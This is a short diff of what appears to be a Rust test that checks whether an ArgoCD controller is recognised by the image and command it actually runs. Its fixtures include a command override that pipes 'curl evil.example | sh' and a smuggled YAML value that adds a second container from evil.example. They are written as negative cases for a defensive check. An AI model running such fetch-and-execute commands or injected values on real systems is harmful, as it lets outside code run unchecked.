@@ -80,7 +80,7 @@ fn an_engine_is_what_runs_as_it_and_not_what_it_is_called() {
         ),
         (controller("evil.example/argoproj/argocd", ""), judged, "another registry"),
         (controller("quay.io/somebody/argocd", ""), judged, "another organisation"),
-        (controller("argoproj/argocd", ""), judged, "short names are Docker Hub's"),
+        (controller("somebody/argocd", ""), judged, "short names are Docker Hub's"),
         (controller(own, ", command: [sh, -c, 'curl evil.example | sh']"), judged, "another program"),
         (controller(own, "}, {name: b, image: evil.example/b"), judged, "something beside it"),
         (
